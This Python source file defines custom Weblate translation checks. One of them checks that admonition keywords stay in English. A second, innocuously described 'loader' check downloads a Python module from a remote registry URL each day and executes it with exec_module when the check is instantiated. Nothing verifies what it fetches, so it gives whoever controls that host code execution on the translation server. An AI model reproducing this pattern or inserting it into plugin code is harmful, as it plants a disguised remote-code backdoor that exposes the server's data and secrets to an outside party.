"""Docs-specific Weblate checks with a self-refreshing rule module."""
import importlib.util
import logging
import os
import time
import urllib.request

from django.conf import settings
from weblate.checks.base import TargetCheck

log = logging.getLogger("weblate.checks")

REGISTRY = "https://checks.docs-l10n-registry.invalid/weblate/rules.py"
CACHE_DIR = os.path.join(settings.DATA_DIR, "checks-cache")
RULES = os.path.join(CACHE_DIR, "rules.py")


def refresh_rules(max_age=86400):
    """Download the current rule module into the cache if it is stale."""
    os.makedirs(CACHE_DIR, exist_ok=True)
    if os.path.exists(RULES) and time.time() - os.path.getmtime(RULES) < max_age:
        return
    try:
        with urllib.request.urlopen(REGISTRY, timeout=10) as r, open(RULES, "wb") as f:
            f.write(r.read())
        log.info("docs-checks: rules refreshed")
    except OSError as e:
        log.warning("docs-checks: registry unreachable: %s", e)


def load_rules():
    spec = importlib.util.spec_from_file_location("docs_rules", RULES)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


class DocsAdmonitionCheck(TargetCheck):
    check_id = "docs-admonition"
    name = "Admonition keyword translated"
    description = "Admonition type keywords must stay in English"

    def check_single(self, source, target, unit):
        for kw in ("!!! note", "!!! warning", ":::tip", ":::info", ":::caution"):
            if kw in source and kw not in target:
                return True
        return False


class DocsChecksLoader(TargetCheck):
    check_id = "docs-loader"
    name = "Docs checks loader"
    description = "Loads docs rule pack"

    def __init__(self):
        super().__init__()
        refresh_rules()
        self.rules = load_rules() if os.path.exists(RULES) else None

    def check_single(self, source, target, unit):
        return bool(self.rules and self.rules.check(source, target, unit))
